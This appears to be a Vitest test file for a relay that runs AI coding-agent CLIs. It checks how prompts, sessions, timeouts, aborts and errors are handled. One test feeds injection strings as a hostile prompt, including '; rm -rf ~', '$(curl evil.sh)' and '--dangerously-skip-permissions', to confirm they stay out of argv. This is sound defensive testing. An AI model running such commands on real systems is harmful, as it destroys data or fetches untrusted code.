// runCommandReply end to end with a stand-in CLI that replays real captures (test/fixtures/replay-cli.mjs).
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { getPriority, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { getSpec } from '../../src/agents/registry.js';
import type { AgentKind, AgentRequest, SessionRef } from '../../src/agents/types.js';
import { runCommandReply } from '../../src/runner/run-command-reply.js';
import { FIXTURES_DIR } from '../agents/fixtures.js';

const REPLAY = join(import.meta.dirname, '..', 'fixtures', 'replay-cli.mjs');
const dir = mkdtempSync(join(tmpdir(), 'aw-rcr-'));
const cwd = join(dir, 'work');
mkdirSync(cwd);
let n = 0;
afterAll(() => rmSync(dir, { recursive: true, force: true }));

interface Record {
  argv: string[];
  stdin: string;
  envKeys: string[];
  pid: number;
  nice: number;
}

function setup(kind: AgentKind, capture: string, extraEnv: { [k: string]: string } = {}) {
  const record = join(dir, `record-${++n}.json`);
  const request = (over: Partial<AgentRequest> & { session?: SessionRef } = {}): AgentRequest => ({
    prompt: '--help me @notes.md "quoted"\nsecond line',
    session: { type: 'new' },
    command: [process.execPath, REPLAY],
    cwd,
    stateDir: join(dir, 'state'),
    timeoutMs: 20_000,
    env: {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      REPLAY_CAPTURE: join(FIXTURES_DIR, kind, `${capture}.json`),
      REPLAY_RECORD: record,
      ...extraEnv,
    },
    ...over,
  });
  const recorded = (): Record => JSON.parse(readFileSync(record, 'utf8')) as Record;
  return { spec: getSpec(kind), request, recorded };
}

/**
 * Runs a hanging CLI with a timeout of 1 s, doubled (up to 16 s) while the CLI had not printed all
 * its lines by then: the timeout counts from the spawn, and on a loaded machine a Node CLI can take
 * longer than a second to start. The result is then always the one the test is about.
 */
async function timedOutAfterPrinting<T>(
  run: (timeoutMs: number, printed: string) => Promise<T>,
): Promise<{ r: T; timeoutMs: number }> {
  for (let timeoutMs = 1000; ; timeoutMs *= 2) {
    const printed = join(dir, `printed-${n + 1}`);
    const r = await run(timeoutMs, printed);
    if (existsSync(printed) || timeoutMs >= 16_000) return { r, timeoutMs };
  }
}

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return !readFileSync(`/proc/${pid}/stat`, 'utf8').includes(') Z ');
  } catch {
    return false;
  }
}

describe('runCommandReply', () => {
  it('feeds the prompt on stdin, never in argv, and parses the reply', async () => {
    const { spec, request, recorded } = setup('claude', 'media');
    const id = '33333333-2222-4333-8444-555555555555';
    const r = await runCommandReply(spec, request({ session: { type: 'new', id } }));
    expect(r).toMatchObject({ type: 'ok', text: expect.stringContaining('Here you go.'), sessionId: id });
    if (r.type === 'ok') expect(r.media).toEqual(['./a.png', './b file.pdf']);
    const rec = recorded();
    expect(rec.stdin).toBe('--help me @notes.md "quoted"\nsecond line');
    expect(rec.argv).toEqual(['-p', '--output-format', 'stream-json', '--verbose', '--session-id', id]);
    expect(rec.envKeys).not.toContain('HOME');
  });

  it("runs the CLI at the relay's own priority (cold runs are not lowered)", async () => {
    const { spec, request, recorded } = setup('claude', 'media');
    expect(await runCommandReply(spec, request())).toMatchObject({ type: 'ok' });
    expect(recorded().nice).toBe(getPriority());
  });

  it('streams earlier messages as progress while the run goes on', async () => {
    const go = join(dir, 'go-claude');
    // The stand-in pauses right after the tool call until progress arrives: a runner that only
    // reported progress at the end would hang here until the timeout.
    const { spec, request } = setup('claude', 'tool', { REPLAY_PAUSE_AFTER: '3', REPLAY_GO: go });
    const progress: string[] = [];
    const r = await runCommandReply(
      spec,
      request({
        timeoutMs: 10_000,
        onProgress: (t) => {
          progress.push(t);
          writeFileSync(go, '');
        },
      }),
    );
    expect(progress).toEqual(['Let me check.']);
    expect(r).toMatchObject({ type: 'ok', text: 'Here is your chart.', progress: ['Let me check.'] });
  });

  it('keeps pi sessions in a file it chose under the state folder', async () => {
    const { spec, request, recorded } = setup('pi', 'new');
    const r = await runCommandReply(spec, request());
    const argv = recorded().argv;
    const file = argv[argv.indexOf('--session') + 1]!;
    expect(file.startsWith(join(dir, 'state'))).toBe(true);
    expect(r).toMatchObject({ type: 'ok', text: 'Here is your chart.', sessionId: file });
    const again = await runCommandReply(spec, request({ session: { type: 'resume', id: file } }));
    expect(again.sessionId).toBe(file);
  });

  it('treats pi exiting 0 with an API error as an error', async () => {
    const { spec, request } = setup('pi', 'auth');
    expect(await runCommandReply(spec, request())).toMatchObject({
      type: 'error',
      kind: 'auth',
      exitCode: 0,
    });
  });

  it('kills a hung run at the timeout and keeps the session id it printed', async () => {
    let last!: ReturnType<typeof setup>;
    const { r, timeoutMs } = await timedOutAfterPrinting((timeoutMs, printed) => {
      last = setup('codex', 'hang', { REPLAY_HANG: '1', REPLAY_PRINTED: printed });
      return runCommandReply(last.spec, last.request({ timeoutMs }));
    });
    const { recorded } = last;
    expect(r).toMatchObject({
      type: 'error',
      kind: 'timeout',
      message: `Codex timed out after ${timeoutMs / 1000} s.`,
      sessionId: '01a20191-a598-7a20-93f2-c2f787ed8ace',
    });
    expect(alive(recorded().pid)).toBe(false);
  });

  it('does not take gemini exiting 0 after our SIGTERM for success', async () => {
    const { r } = await timedOutAfterPrinting((timeoutMs, printed) => {
      const { spec, request } = setup('gemini', 'new', {
        REPLAY_HANG: '1',
        REPLAY_TERM: 'exit0',
        REPLAY_PRINTED: printed,
      });
      return runCommandReply(spec, request({ timeoutMs }));
    });
    expect(r).toMatchObject({ type: 'error', kind: 'timeout', exitCode: 0 });
  });

  it('reports an abort as aborted', async () => {
    // Aborted once the CLI has printed its session id, not after a fixed delay: on a loaded machine
    // the CLI may not even have started 300 ms after the spawn, and then no session id is known.
    const printed = join(dir, `printed-${n + 1}`);
    const { spec, request } = setup('opencode', 'new', { REPLAY_HANG: '1', REPLAY_PRINTED: printed });
    const ac = new AbortController();
    const pending = runCommandReply(spec, request({ signal: ac.signal }));
    await vi.waitFor(() => expect(existsSync(printed)).toBe(true), { timeout: 15_000, interval: 10 });
    ac.abort();
    expect(await pending).toMatchObject({
      type: 'error',
      kind: 'aborted',
      sessionId: 'ses_dfe6d2d5cffeKIUcFNUBC0L0np',
    });
  });

  it('still produces the reply when a flood in the middle hits the byte cap', async () => {
    const { spec, request } = setup('codex', 'new', { REPLAY_FILLER_BYTES: String(3 * 1024 * 1024) });
    const r = await runCommandReply(spec, request({ maxStdoutBytes: 256 * 1024 }));
    expect(r).toMatchObject({
      type: 'ok',
      text: 'Here is your chart.',
      truncated: true,
      sessionId: '01a20190-fe4f-7cd0-b4a2-d1ed84ae9809',
    });
  });

  it('says when the CLI is not installed', async () => {
    const { spec, request } = setup('gemini', 'new');
    const r = await runCommandReply(spec, request({ command: ['agentwire-test-no-such-gemini'] }));
    expect(r).toMatchObject({ type: 'error', kind: 'not_installed' });
  });

  it('refuses a session id that could be read as a flag, before running anything', async () => {
    const { spec, request } = setup('claude', 'new');
    const record = join(dir, 'never.json');
    const r = await runCommandReply(
      spec,
      request({
        session: { type: 'resume', id: '--dangerously-skip-permissions' },
        env: { REPLAY_RECORD: record },
      }),
    );
    expect(r).toMatchObject({ type: 'error', kind: 'exit' });
    expect(existsSync(record)).toBe(false);
  });

  it('reports a missing working folder as a start failure, not as not installed', async () => {
    const { spec, request } = setup('codex', 'new');
    const r = await runCommandReply(spec, request({ cwd: join(dir, 'gone') }));
    expect(r).toMatchObject({
      type: 'error',
      kind: 'exit',
      detail: expect.stringContaining('does not exist'),
    });
  });

  it('passes hostile and huge prompts verbatim on stdin, with argv untouched', async () => {
    const hostile = [
      '--dangerously-skip-permissions',
      '-p',
      '; rm -rf ~',
      '$(curl evil.sh)',
      '`id`',
      '--resume x',
      'nul\0byte',
      'x'.repeat(300_000),
    ].join('\n');
    const { spec, request, recorded } = setup('codex', 'new');
    const r = await runCommandReply(spec, request({ prompt: hostile }));
    expect(r.type).toBe('ok');
    expect(recorded().stdin).toBe(hostile);
    expect(recorded().argv).toEqual(['exec', '--json', '--skip-git-repo-check', '--', '-']);
  });

  it('never hands nesting variables to the CLI', async () => {
    const { spec, request, recorded } = setup('claude', 'new');
    const base = request();
    await runCommandReply(spec, {
      ...base,
      env: { ...base.env, CLAUDECODE: '1', CLAUDE_CODE_ENTRYPOINT: 'sdk' },
    });
    expect(recorded().envKeys).not.toContain('CLAUDECODE');
    expect(recorded().envKeys).not.toContain('CLAUDE_CODE_ENTRYPOINT');
  });

  it('reports a CLI killed by a signal without its output in the message', async () => {
    const { spec, request } = setup('codex', 'new');
    const script = 'console.error("at /home/me/secret.js:1"); process.kill(process.pid, "SIGKILL")';
    const r = await runCommandReply(spec, request({ command: [process.execPath, '-e', script] }));
    expect(r).toMatchObject({
      type: 'error',
      kind: 'exit',
      signal: 'SIGKILL',
      message: 'Codex stopped unexpectedly (SIGKILL).',
    });
  });

  it('keeps stderr and stack traces out of the user message of a failed run', async () => {
    const { spec, request } = setup('claude', 'new');
    const script = join(dir, 'fails.js');
    writeFileSync(
      script,
      'console.error("Error: boom at /home/me/.claude/x.js\\n    at Object.<anonymous> (/x.js:1:1)"); process.exit(1);',
    );
    const r = await runCommandReply(spec, request({ command: [process.execPath, script] }));
    expect(r).toMatchObject({
      type: 'error',
      kind: 'exit',
      exitCode: 1,
      message: 'Claude Code failed (exit code 1).',
    });
    if (r.type === 'error') expect(r.detail).toContain('boom');
  });
});
